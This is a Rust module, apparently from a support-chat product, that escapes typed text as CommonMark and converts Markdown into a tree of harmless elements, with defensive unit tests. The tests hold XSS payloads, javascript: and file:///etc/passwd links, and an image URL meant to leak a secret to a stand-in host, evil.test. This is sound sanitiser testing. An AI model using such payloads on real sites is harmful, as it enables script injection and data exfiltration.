//! Text in both directions: what people type as CommonMark, and CommonMark as a tree of harmless elements.
//!
//! Not here: what a message is. The browser builds elements from the tree and parses no HTML at all, so there is no
//! sanitiser to get around, and pages that demand Trusted Types are content.

use deskbridge_contract::commonmark::{block_start, is_special};
use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};
use serde_json::{Value, json};

/// What a person types is text, letter by letter (C13).
pub fn from_typed(text: &str) -> String {
    let text = text.replace('\0', "\u{fffd}").replace("\r\n", "\n").replace('\r', "\n");
    text.split('\n').map(line).collect::<Vec<_>>().join("\n")
}

fn line(text: &str) -> String {
    let chars: Vec<char> = text.chars().collect();
    let indent = chars.iter().take_while(|c| matches!(c, ' ' | '\t')).count();
    // Four spaces would make code of it.
    let mut out: String = if indent > 3 { "\u{a0}".repeat(indent) } else { " ".repeat(indent) };
    let rest = &chars[indent..];
    let block = block_start(rest);
    for (at, c) in rest.iter().enumerate() {
        let before = at.checked_sub(1).map(|at| rest[at]);
        // Bars make tables.
        if Some(at) == block || *c == '|' || is_special(*c, before, &rest[at + 1..]) {
            out.push('\\');
        }
        out.push(*c);
    }
    out
}

/// Elements that are open while the text is read, innermost last.
struct Builder {
    open: Vec<(String, Value, Vec<Value>)>,
    done: Vec<Value>,
}

/// CommonMark as a tree: a text, or `[element, {attributes}, children …]`. Raw HTML is text, an image is a link.
pub fn to_tree(markdown: &str) -> Vec<Value> {
    let mut builder = Builder { open: Vec::new(), done: Vec::new() };
    for event in Parser::new_ext(markdown, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH) {
        builder.take(event);
    }
    while !builder.open.is_empty() {
        builder.close();
    }
    builder.done
}

impl Builder {
    fn add(&mut self, node: Value) {
        let into = self.open.last_mut().map_or(&mut self.done, |(_, _, children)| children);
        // Neighbouring texts are one.
        if let (Value::String(text), Some(Value::String(last))) = (&node, into.last_mut()) {
            last.push_str(text);
        } else {
            into.push(node);
        }
    }

    fn begin(&mut self, element: &str, attributes: Value) {
        self.open.push((element.to_owned(), attributes, Vec::new()));
    }

    fn close(&mut self) {
        let Some((element, attributes, children)) = self.open.pop() else { return };
        if element.is_empty() {
            children.into_iter().for_each(|child| self.add(child));
            return;
        }
        let mut node = vec![Value::from(element), attributes];
        node.extend(children);
        self.add(Value::Array(node));
    }

    fn text(&mut self, text: &str) {
        let inside_link = self.open.iter().any(|(element, _, _)| element == "a");
        let inside_code = self.open.iter().any(|(element, _, _)| element == "code" || element == "pre");
        if inside_link || inside_code {
            return self.add(json!(text));
        }
        let mut rest = text;
        while let Some((start, end)) = web_address(rest) {
            if start > 0 {
                self.add(json!(&rest[..start]));
            }
            let url = &rest[start..end];
            self.add(json!(["a", { "href": url }, url]));
            rest = &rest[end..];
        }
        if !rest.is_empty() {
            self.add(json!(rest));
        }
    }

    fn take(&mut self, event: Event<'_>) {
        match event {
            Event::Start(tag) => self.start(&tag),
            Event::End(TagEnd::TableHead) => {
                self.close();
                self.close();
            }
            Event::End(_) => self.close(),
            Event::Text(text) => self.text(&text),
            Event::Code(text) => self.add(json!(["code", {}, text.as_ref()])),
            // Typed by somebody, and meant to be read.
            Event::Html(text) | Event::InlineHtml(text) => self.add(json!(text.as_ref())),
            Event::SoftBreak | Event::HardBreak => self.add(json!(["br", {}])),
            Event::Rule => self.add(json!(["hr", {}])),
            Event::TaskListMarker(done) => self.add(json!(if done { "☑ " } else { "☐ " })),
            Event::FootnoteReference(text) | Event::InlineMath(text) | Event::DisplayMath(text) => {
                self.add(json!(text.as_ref()));
            }
        }
    }

    fn start(&mut self, tag: &Tag<'_>) {
        let plain = |this: &mut Builder, element: &str| this.begin(element, json!({}));
        match tag {
            Tag::Paragraph => plain(self, "p"),
            // A message has no outline of its own.
            Tag::Heading { .. } => plain(self, "h"),
            Tag::BlockQuote(_) => plain(self, "blockquote"),
            Tag::CodeBlock(kind) => {
                let language = match kind {
                    CodeBlockKind::Fenced(language) => language.as_ref(),
                    CodeBlockKind::Indented => "",
                };
                let _ = language;
                plain(self, "pre");
            }
            Tag::List(Some(first)) => self.begin("ol", json!({ "start": first })),
            Tag::List(None) => plain(self, "ul"),
            Tag::Item => plain(self, "li"),
            Tag::Table(_) => plain(self, "table"),
            Tag::TableHead => {
                plain(self, "thead");
                plain(self, "tr");
            }
            Tag::TableRow => plain(self, "tr"),
            Tag::TableCell => plain(self, "td"),
            Tag::Emphasis => plain(self, "em"),
            Tag::Strong => plain(self, "strong"),
            Tag::Strikethrough => plain(self, "del"),
            // Nothing is loaded from elsewhere: who looks at a message must not be seen doing it.
            Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. } => match harmless(dest_url) {
                Some(url) => self.begin("a", json!({ "href": url })),
                None => plain(self, ""),
            },
            _ => plain(self, ""),
        }
    }
}

/// Addresses that lead to the web or to a mailbox. Everything else stays text.
fn harmless(address: &str) -> Option<String> {
    let url = url::Url::parse(address.trim()).ok()?;
    match url.scheme() {
        "http" | "https" if url.has_host() => Some(url.into()),
        "mailto" => Some(url.into()),
        _ => None,
    }
}

/// Where the first web address of a text begins and ends.
fn web_address(text: &str) -> Option<(usize, usize)> {
    let start = ["https://", "http://"].iter().filter_map(|scheme| text.find(scheme)).min()?;
    let rest = &text[start..];
    let end =
        rest.find(|c: char| c.is_whitespace() || c == '<' || c == '>' || c == '"').unwrap_or(rest.len());
    let url = rest[..end].trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', ')', ']', '*', '_']);
    harmless(url)?;
    Some((start, start + url.len()))
}

/// The same as plain text, for notifications and transcripts.
pub fn plain(tree: &[Value]) -> String {
    let mut out = String::new();
    for node in tree {
        write_plain(node, &mut out);
    }
    out.trim().to_owned()
}

fn write_plain(node: &Value, out: &mut String) {
    match node {
        Value::String(text) => out.push_str(text),
        Value::Array(parts) => {
            let element = parts.first().and_then(Value::as_str).unwrap_or_default();
            if element == "br" {
                return out.push('\n');
            }
            if element == "td" && !out.is_empty() && !out.ends_with('\n') {
                out.push_str(" · ");
            }
            parts.iter().skip(2).for_each(|child| write_plain(child, out));
            let block = matches!(element, "p" | "h" | "li" | "pre" | "blockquote" | "tr");
            if block && !out.ends_with('\n') {
                out.push('\n');
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::Object(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn typed_text_stays_text() {
        for typed in [
            "*not bold* _not italic_ ~not struck~ `not code`",
            "# not a heading",
            "> not a quote",
            "1. not a list",
            "[not a link](https://example.org/x) ![x](https://example.org/y.png)",
            "<b>not html</b> &amp; <script>alert(1)</script>",
            "```not a fence",
            "a\\*b \\\\ c:\\users\\maria_costa snake_case_word 2*3*4",
            "one\ntwo\n---\nthree\n===\n- a\n+ b",
            "a | b\n--|--\n1 | 2",
        ] {
            assert_eq!(plain(&to_tree(&from_typed(typed))), typed);
        }
    }

    #[test]
    fn only_harmless_addresses_become_links() {
        for address in [
            "javascript:alert(1)",
            "data:text/html,x",
            "vbscript:x",
            "//evil.test",
            "/x",
            "java\nscript:alert(1)",
            "file:///etc/passwd",
        ] {
            let tree = to_tree(&format!("[click](<{address}>)"));
            assert!(!json!(tree).to_string().contains("href"), "{address}: {tree:?}");
        }
        assert_eq!(
            to_tree("[ok](https://example.org/a?b=1&c=2) ![shot](https://example.org/y.png)"),
            [json!(["p", {}, ["a", { "href": "https://example.org/a?b=1&c=2" }, "ok"], " ",
                ["a", { "href": "https://example.org/y.png" }, "shot"]])]
        );
        assert_eq!(
            to_tree("see https://example.org/x_y, or not"),
            [
                json!(["p", {}, "see ", ["a", { "href": "https://example.org/x_y" }, "https://example.org/x_y"], ", or not"])
            ]
        );
    }

    /// Nothing is fetched for a message: a picture elsewhere is a link that says so, whoever wrote it.
    #[test]
    fn s49_a_picture_elsewhere_is_a_link() {
        for (markdown, href) in [
            ("![x](https://evil.test/?c=secret)", "https://evil.test/?c=secret"),
            ("![x][one]\n\n[one]: https://evil.test/p.png", "https://evil.test/p.png"),
            ("[![x](https://evil.test/p.png)](https://evil.test/q)", "https://evil.test/q"),
        ] {
            let tree = json!(to_tree(markdown)).to_string();
            assert!(tree.contains(&format!(r#"["a",{{"href":"{href}"}}"#)), "{tree}");
            assert!(!tree.contains("img") && !tree.contains("src"), "{tree}");
        }
        // What a visitor types is no link of that kind at all.
        let typed = json!(to_tree(&from_typed("![x](https://evil.test/?c=secret)"))).to_string();
        assert!(!typed.contains("\"x\"") && typed.contains("![x]("), "{typed}");
    }

    #[test]
    fn html_is_text_and_tables_are_tables() {
        assert_eq!(to_tree("<img src=x onerror=alert(1)>"), [json!("<img src=x onerror=alert(1)>")]);
        let table = json!(to_tree("| a | b |\n|---|---|\n| 1 | 2 |")).to_string();
        assert_eq!(
            table,
            r#"[["table",{},["thead",{},["tr",{},["td",{},"a"],["td",{},"b"]]],["tr",{},["td",{},"1"],["td",{},"2"]]]]"#
        );
    }
}
